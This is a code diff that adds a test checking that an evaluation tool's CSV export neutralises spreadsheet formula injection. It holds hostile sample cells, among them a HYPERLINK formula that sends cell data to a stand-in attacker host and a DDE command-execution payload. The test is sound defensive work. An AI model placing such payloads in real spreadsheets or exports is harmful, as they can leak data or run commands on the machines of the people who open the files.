@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import json
 import subprocess
 import sys
@@ -102,3 +103,28 @@ def test_run_as_dataframe_and_parquet(tmp_path: Path) -> None:
     path = export(run, tmp_path / "out.parquet")
     back = pd.read_parquet(path)
     pd.testing.assert_frame_equal(back, frame)
+
+
+def test_csv_export_neutralises_formula_cells(tmp_path: Path) -> None:
+    """Issue 10 item 10: an answer ``=HYPERLINK(...)`` is written as text (a leading quote), numbers stay numbers."""
+    w = RunWriter(tmp_path / "r")
+    w.write_manifest(Manifest(run_id="r", started_at="2026-11-25T00:00:00Z"))
+    hostile = {"c1": '=HYPERLINK("http://evil.example/?x="&A1,"click")', "c2": "+1+cmd|' /C calc'!A0",
+               "c3": "-2+3", "c4": "@SUM(A1:A9)", "c5": "\tTAB", "c6": "\rCR", "c7": "'quoted", "c8": "plain 42"}
+    results = []
+    for case_id, answer in hostile.items():
+        t = Transcript(subject="council", query="q", answers=(Answer(member="m", model="x", text=answer),),
+                       final_answer=answer)
+        results.append(CaseResult(case_id=case_id, dataset="d", subject="council", status="passed", transcript=t,
+                                  scores={"correct": -1.0 if case_id == "c1" else 1.0}))
+    w.add(results)
+    path = export(load_run(tmp_path / "r"), tmp_path / "out.csv")
+    with path.open(newline="", encoding="utf-8") as fh:
+        back = list(csv.DictReader(fh))
+    answers = {row["case_id"]: row["final_answer"] for row in back}
+    assert answers == {"c1": "'" + hostile["c1"], "c2": "'" + hostile["c2"], "c3": "'-2+3", "c4": "'@SUM(A1:A9)",
+                       "c5": "'\tTAB", "c6": "'\rCR", "c7": "''quoted", "c8": "plain 42"}
+    assert [row["correct"] for row in back if row["case_id"] == "c1"] == ["-1.0"]  # a number is not quoted
+    raw = path.read_text(encoding="utf-8")
+    assert not any(line.startswith(("=", "+", "@")) or ",=" in line or ",+" in line or ",@" in line
+                   for line in raw.splitlines())
